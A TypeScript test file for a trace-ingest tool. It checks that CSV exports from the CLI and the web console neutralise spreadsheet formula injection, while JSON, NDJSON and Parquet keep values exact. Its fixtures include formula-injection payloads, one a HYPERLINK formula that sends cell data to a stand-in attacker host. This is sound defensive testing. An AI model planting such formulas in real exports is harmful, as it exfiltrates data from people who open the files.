import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import { chromium, type Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadConfig } from '@trace-ingest/shared/config';
import { createContext, type CliContext } from '@trace-ingest/cli/program-context';
import { createConsoleToken } from '@trace-ingest/cli/actions/console';
import { exportSpans } from '@trace-ingest/cli/actions/export';
import { runCli } from '@trace-ingest/cli/program';
import { makeSpan, makeTrace } from '../factories.js';
import { startTestServer, type TestServer } from './support/ingest-server.js';

/**
 * Values any ingest key can send (customer ids, trace names, model ids, span
 * names) that a spreadsheet would run as formulas. Every CSV the product
 * writes (the CLI's `usage --csv`, the console's downloads, `export --format
 * csv`) shows them as text; JSON, NDJSON and Parquet keep them exactly.
 */

const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const FLAGS = ['--headless', '--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking', '--disable-component-update'];
const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', '+1+1', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
const DAY = '2026-03-04';
const T0 = Date.parse(`${DAY}T10:00:00Z`);

/** Cells of a CSV file a spreadsheet would take for a formula: OWASP's starting characters, numbers apart. */
async function formulaCells(text: string): Promise<string[]> {
  const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'ti-csv-')), 'x.csv');
  fs.writeFileSync(file, text);
  const db = await DuckDBInstance.create(':memory:');
  const c = await db.connect();
  try {
    const rows = (await c.runAndReadAll(`SELECT * FROM read_csv('${file}', header = false, all_varchar = true, quote = '"', escape = '"')`)).getRowsJson();
    return rows.flat().filter((v): v is string => typeof v === 'string' && /^[=+\-@\t\r]/.test(v) && !/^[-+]?\d+(\.\d+)?$/.test(v));
  } finally {
    c.closeSync();
    db.closeSync();
    fs.rmSync(path.dirname(file), { recursive: true, force: true });
  }
}

describe('CSV safe to open in a spreadsheet', () => {
  let t: TestServer;
  let ctx: CliContext;
  let browser: Browser;
  const out = fs.mkdtempSync(path.join(os.tmpdir(), 'ti-csv-out-'));

  const cli = async (...args: string[]): Promise<string> => {
    const lines: string[] = [];
    const code = await runCli(args, { env: { DATA_DIR: t.dir }, out: { out: (s) => lines.push(s), err: () => undefined } });
    expect(code).toBe(0);
    return lines.join('\n');
  };

  beforeAll(async () => {
    t = await startTestServer({ CONSOLE_PORT: '0' });
    const { key } = await t.newKey('acme');
    const traces = FORMULAS.map((f, i) =>
      makeTrace({
        traceId: `t-${i}`,
        traceName: f,
        customer: { id: f, name: f },
        spans: [makeSpan({ name: f, modelId: `@model-${i}`, provider: 'openai', startTime: T0 + i, endTime: T0 + i + 10, input: f })],
      }),
    );
    expect((await t.post({ version: 'v1', traces }, { key })).status).toBe(202);
    await t.server.flush();
    ctx = createContext(loadConfig({ DATA_DIR: t.dir }));
    browser = await chromium.launch({ executablePath: CHROMIUM, args: FLAGS, headless: true });
  });
  afterAll(async () => {
    await browser?.close();
    await ctx?.close();
    await t?.close();
    fs.rmSync(out, { recursive: true, force: true });
  });

  it('usage --csv shows each such value as text, with a leading quote; --json keeps it exact', async () => {
    for (const by of ['customer', 'model', 'trace']) {
      const csv = await cli('usage', '--org', 'acme', '--from', DAY, '--to', DAY, '--by', by, '--csv');
      expect(await formulaCells(csv), `--by ${by}`).toEqual([]);
    }
    const csv = await cli('usage', '--org', 'acme', '--from', DAY, '--to', DAY, '--by', 'customer', '--csv');
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""open"")"`);
    expect(csv.split('\n').map((l) => l.split(',')[0])).toEqual(expect.arrayContaining(["'+1+1", "'-2+3", "'@SUM(1+1)", "'\t=1+1"]));
    const json = JSON.parse(await cli('usage', '--org', 'acme', '--from', DAY, '--to', DAY, '--by', 'customer', '--json')) as { rows: { group: string }[] };
    expect(json.rows.map((r) => r.group).sort()).toEqual([...FORMULAS].sort());
  });

  it('export --format csv neutralises every such cell; NDJSON and Parquet keep the exact values', async () => {
    const window = { org: 'acme', from: DAY, to: DAY };
    const csv = await exportSpans(ctx, { ...window, format: 'csv', out: path.join(out, 'spans.csv') });
    expect(csv.rows).toBe(FORMULAS.length);
    expect(await formulaCells(fs.readFileSync(csv.file, 'utf8'))).toEqual([]);

    const nd = await exportSpans(ctx, { ...window, format: 'ndjson', out: path.join(out, 'spans.ndjson') });
    const rows = fs
      .readFileSync(nd.file, 'utf8')
      .split('\n')
      .filter(Boolean)
      .map((l) => JSON.parse(l) as Record<string, string>);
    expect(rows.map((r) => r.customer_id).sort()).toEqual([...FORMULAS].sort());
    expect(rows.map((r) => r.input).sort()).toEqual([...FORMULAS].sort());

    const pq = await exportSpans(ctx, { ...window, format: 'parquet', out: path.join(out, 'spans.parquet') });
    const db = await DuckDBInstance.create(':memory:');
    const c = await db.connect();
    const back = (await c.runAndReadAll(`SELECT customer_id, trace_name, name FROM read_parquet('${pq.file}') ORDER BY trace_id`)).getRowObjectsJson();
    c.closeSync();
    db.closeSync();
    expect(back.map((r) => [r.customer_id, r.trace_name, r.name])).toEqual(FORMULAS.map((f) => [f, f, f]));
  });

  it("the console's CSV downloads neutralise them too, the same bytes as the CLI", async () => {
    const token = (await createConsoleToken(ctx, { name: 'finance' })).token;
    const context = await browser.newContext({ acceptDownloads: true });
    const page = await context.newPage();
    await page.goto(`http://127.0.0.1:${t.server.consolePort}/console/#/customers?org=acme&from=${DAY}&to=${DAY}`);
    await page.fill('input[name=token]', token);
    await page.click('button[type=submit]');
    await page.waitForSelector('[data-page="customers"]');
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('[data-csv="customers"]')]);
    const downloaded = fs.readFileSync(await download.path(), 'utf8');
    expect(await formulaCells(downloaded)).toEqual([]);
    expect(downloaded.trim()).toBe((await cli('usage', '--org', 'acme', '--from', DAY, '--to', DAY, '--by', 'customer', '--csv')).trim());

    await page.goto(`http://127.0.0.1:${t.server.consolePort}/console/#/traces?org=acme&from=${DAY}&to=${DAY}`);
    await page.waitForSelector('[data-page="traces"]');
    const [traces] = await Promise.all([page.waitForEvent('download'), page.click('[data-csv="traces"]')]);
    const tracesCsv = fs.readFileSync(await traces.path(), 'utf8');
    expect(tracesCsv).toContain("'=HYPERLINK");
    expect(await formulaCells(tracesCsv)).toEqual([]);
    await context.close();
  });
});
